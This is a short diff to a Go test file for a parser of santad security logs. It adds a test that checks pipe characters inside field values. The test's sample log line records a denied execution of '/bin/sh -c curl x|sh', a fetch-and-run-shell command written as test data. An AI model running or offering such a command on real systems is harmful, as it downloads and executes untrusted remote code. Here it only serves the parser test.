@@ -42,6 +42,14 @@ func TestRecord(t *testing.T) {
 	}
 }
 
+// TestBars: a bar inside a value stays in it.
+func TestBars(t *testing.T) {
+	parsetest.Lines(t, New(), assume, map[string]map[string]string{
+		"[2026-03-14T01:02:03.004Z] I santad: action=EXEC|decision=DENY|reason=BINARY|args=/bin/sh -c curl x|sh|A=1|pid=7": {
+			"process.command_line": "/bin/sh -c curl x|sh|A=1", "process.pid": "7", "event.outcome": "failure"},
+	})
+}
+
 func TestNotItsOwn(t *testing.T) {
 	for _, text := range []string{"", "hello\n", "{\"a\":1}\n", "Mar 14 01:02:03 h p: m\n", "2026-03-14T01:02:03Z something happened\n", "a,b,c\n1,2,3\n"} {
 		if s := New().Detect([]byte(text), "x.log"); s != 0 {
